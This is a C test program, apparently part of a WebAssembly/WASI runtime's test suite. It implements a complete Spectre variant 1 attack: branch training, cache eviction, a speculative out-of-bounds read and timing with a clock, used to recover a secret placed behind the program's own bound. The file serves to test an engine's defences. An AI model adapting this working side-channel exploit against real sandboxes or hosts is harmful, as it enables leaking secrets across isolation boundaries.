// Spectre, variant 1 (Kocher and others, 2019): a branch that checks a bound is trained to let through, then asked for an
// index behind the bound; what the processor did before it noticed is read from the cache, by the time that a load takes.
//
// First as a proof of the instrument: whether a line that was loaded just before can be told by the program's clock at all.
// Then the attack, on a bound of the program's own: what an engine does about its bounds is in SPECIFICATION.md.
//
// tries: to read a secret behind a bound while the processor guesses, and to tell it by the program's clock
// must: it runs to its end and tells how many bytes it recovered; SPECIFICATION.md says what follows
// sampan: --timeout 90s
// exit: 0
// stdout~: the clock:
// stdout~: told apart a cached line:
// stdout~: behind the program's own bound:
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <wasi/api.h>

enum { SECRETS = 16, LINE = 4096, TRIES = 24, TRAININGS = 29, EVICTED = 16 << 20, VALUES = 16 };

static uint8_t probe[VALUES * LINE], evictor[EVICTED];
static struct {
    volatile uint32_t bound;
    uint8_t apart[512], allowed[16], more[512], secret[SECRETS];
} data = {.bound = 16};

static volatile uint8_t sink;
static volatile double one = 1;

// The line that the training touches is known, and no secret is there.
enum { TRAINED = 3 };

static uint64_t now(void) {
    __wasi_timestamp_t time;
    (void)!__wasi_clock_time_get(__WASI_CLOCKID_MONOTONIC, 0, &time);
    return time;
}

// Walks over more than the caches hold: there is no instruction that empties a line here.
static void evict(void) {
    for (size_t i = 0; i < EVICTED; i += 64)
        sink += evictor[i];
}

// Takes long to come to the number that it begins with: meanwhile the processor guesses.
static uint32_t slowly(uint32_t number) {
    double value = number;
    for (int i = 0; i < 40; i++)
        value /= one;
    return (uint32_t)value;
}

static void __attribute__((noinline)) gadget(uint32_t index) {
    // The nibbles one after the other: 16 lines are evicted sooner than 256.
    if (index < slowly(data.bound))
        sink &= probe[(data.allowed[index] & 15) * LINE];
}

// A vote for the line that is loaded soonest.
static void measure(int votes[VALUES]) {
    int best = 0;
    uint64_t least = UINT64_MAX;
    for (int i = 0; i < VALUES; i++) {
        // In an order that no prefetcher guesses.
        int line = (i * 7 + 5) & (VALUES - 1);
        uint64_t before = now();
        sink &= probe[line * LINE];
        uint64_t took = now() - before;
        if (took < least && line != TRAINED) {
            least = took;
            best = line;
        }
    }
    votes[best]++;
}

static int recovered(int behind) {
    int right = 0;
    for (int at = 0; at < SECRETS; at++) {
        int votes[VALUES] = {0};
        uint32_t index = behind ? (uint32_t)(data.secret + at - data.allowed) : 1 + (uint32_t)at % 15;
        for (int try = 0; try < TRIES; try++) {
            evict();
            // Whose secret it is has just used it.
            sink &= data.secret[at] & data.allowed[at];
            // Without a branch of its own: what is asked for last is another index.
            for (int i = TRAININGS; i >= 0; i--) {
                uint32_t is_last = -(uint32_t)(i == 0);
                gadget(index & is_last);
            }
            measure(votes);
        }
        int best = 0;
        for (int i = 0; i < VALUES; i++)
            if (votes[i] > votes[best])
                best = i;
        right += best == ((behind ? data.secret[at] : data.allowed[index]) & 15);
    }
    return right;
}

int main(void) {
    __wasi_timestamp_t resolution;
    (void)!__wasi_clock_res_get(__WASI_CLOCKID_MONOTONIC, &resolution);
    uint64_t least = UINT64_MAX, sum = 0;
    for (int i = 0; i < 10000; i++) {
        uint64_t before = now(), took = now() - before;
        sum += took;
        if (took && took < least)
            least = took;
    }
    printf("the clock: says %llu ns, %llu ns between two looks at it, %llu ns on average\n", resolution, least, sum / 10000);
    for (int i = 0; i < SECRETS; i++) {
        data.allowed[i] = 0x40 + (i ? (TRAINED + 1 + (i * 7) % 15) % 16 : TRAINED);
        data.secret[i] = 0x40 + (TRAINED + 1 + (i * 4 + 2) % 15) % 16;
    }
    memset(probe, 1, sizeof probe);
    memset(evictor, 1, sizeof evictor);
    printf("told apart a cached line: %d of %d\n", recovered(0), SECRETS);
    printf("behind the program's own bound: %d of %d\n", recovered(1), SECRETS);
    return 0;
}
